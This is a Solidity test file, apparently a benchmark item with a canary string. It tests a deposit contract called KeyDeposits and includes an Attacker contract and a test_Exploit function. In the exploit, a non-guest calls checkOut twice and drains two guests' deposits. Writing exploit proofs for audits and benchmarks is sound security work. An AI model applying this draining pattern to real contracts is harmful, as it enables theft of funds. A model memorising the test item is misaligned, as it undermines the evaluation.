// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./KeyDeposits.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-aafac1fd-65e1-46ea-851a-3100ce8be5c3

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Money is ERC20("Money", "MON") {
    address private _maker = msg.sender;

    function mint(address account, uint256 amount) external {
        require(msg.sender == _maker, "Money: not the maker");
        _mint(account, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    address private constant MANAGER = address(0x3A9);

    Money public money;
    KeyDeposits private studio;
    Attacker private mallory;

    function setUp() public {
        money = new Money();
        studio = new KeyDeposits(money, 200e18, 3, MANAGER);
        enter(ANA);
        enter(BEN);
        mallory = new Attacker(studio);
    }

    function enter(address guest) private {
        money.mint(guest, 500e18);
        vm.startPrank(guest);
        money.approve(address(studio), 500e18);
        studio.checkIn();
        vm.stopPrank();
    }

    function test_Regular() public {
        enter(CAT);
        require(studio.guests().length == 3 && money.balanceOf(address(studio)) == 600e18, "three guests");
        vm.prank(ANA);
        studio.checkOut(ANA);
        vm.prank(BEN);
        studio.checkOut(ANA);
        require(money.balanceOf(ANA) == 700e18 && studio.guests().length == 1, "checked out");
        vm.startPrank(MANAGER);
        studio.sendAway(CAT);
        studio.setPlaces(1);
        require(money.balanceOf(CAT) == 500e18 && studio.places() == 1, "sent away");
        studio.grantRole(studio.MANAGER_ROLE(), ANA);
        studio.revokeRole(studio.MANAGER_ROLE(), ANA);
        studio.renounceRole(studio.MANAGER_ROLE(), MANAGER);
        vm.stopPrank();
        vm.prank(ANA);
        studio.checkIn();
        require(studio.guests()[0] == ANA, "back again");
    }

    function test_RefusesSetups() public {
        vm.expectRevert("KeyDeposits: no deposit");
        new KeyDeposits(money, 0, 1, MANAGER);
        vm.expectRevert("KeyDeposits: no places");
        new KeyDeposits(money, 1, 0, MANAGER);
    }

    function test_RefusesGuests() public {
        vm.startPrank(ANA);
        vm.expectRevert("KeyDeposits: has a place");
        studio.checkIn();
        vm.expectRevert("KeyDeposits: no receiver");
        studio.checkOut(address(0));
        vm.stopPrank();
        enter(CAT);
        vm.expectRevert("KeyDeposits: no place left");
        studio.checkIn();
    }

    function test_RefusesOthers() public {
        vm.prank(ANA);
        studio.checkOut(ANA);
        vm.prank(BEN);
        studio.checkOut(BEN);
        vm.expectRevert("KeyDeposits: no guest");
        studio.checkOut(address(this));
        vm.startPrank(MANAGER);
        vm.expectRevert("KeyDeposits: no guest");
        studio.sendAway(ANA);
        vm.expectRevert("KeyDeposits: no places");
        studio.setPlaces(0);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        bytes4 selector = IAccessControl.AccessControlUnauthorizedAccount.selector;
        bytes memory reason = abi.encodeWithSelector(selector, ANA, studio.MANAGER_ROLE());
        vm.startPrank(ANA);
        vm.expectRevert(reason);
        studio.sendAway(BEN);
        vm.expectRevert(reason);
        studio.setPlaces(9);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(money.balanceOf(address(mallory)) == 400e18, "no gain");
    }

    function target() public view returns (address) {
        return address(studio);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    KeyDeposits private _studio;

    constructor(KeyDeposits studio) {
        _studio = studio;
    }

    function run() external {
        _studio.checkOut(address(this));
        _studio.checkOut(address(this));
    }
}
